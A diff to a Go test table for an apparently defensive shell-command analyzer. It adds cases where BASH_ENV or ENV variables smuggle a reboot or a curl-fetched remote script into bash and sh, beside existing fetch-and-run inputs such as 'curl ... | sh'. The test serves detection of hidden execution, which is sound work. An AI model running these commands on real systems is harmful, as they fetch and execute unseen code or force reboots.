@@ -21,7 +21,11 @@ func TestOwnFiles(t *testing.T) {
 		{`echo reboot > f; exec 4< f; sh <&4`, `~reboot power:`},
 		{`curl -s https://x.io/i > i.sh; sh i.sh`, `~sh unseen-code:https://x.io/i`},
 		{`exec 3< <(curl -s https://x.io/i); sh <&3`, `~sh unseen-code:https://x.io/i`},
+		{`BASH_ENV=<(echo reboot) bash -c true`, `~[BASH_ENV=]reboot power:`},
+		{`echo reboot > e; ENV=e sh -i`, `~[ENV=]reboot power:`},
+		{`BASH_ENV=<(curl -s https://x.io/e) bash -c true`, `~unseen-code:https://x.io/e`},
 		// Ordinary.
+		{`BASH_ENV=~/.bash_env bash -c true`, `[bash -c]true`},
 		{`echo ls > a.sh; sh a.sh`, `echo write:/home/u/a.sh; [sh <<<]ls`},
 		{`exec 3<<<ls; sh <&3`, `exec; [sh <<<]ls`},
 		{`sh ./build.sh`, `sh`},
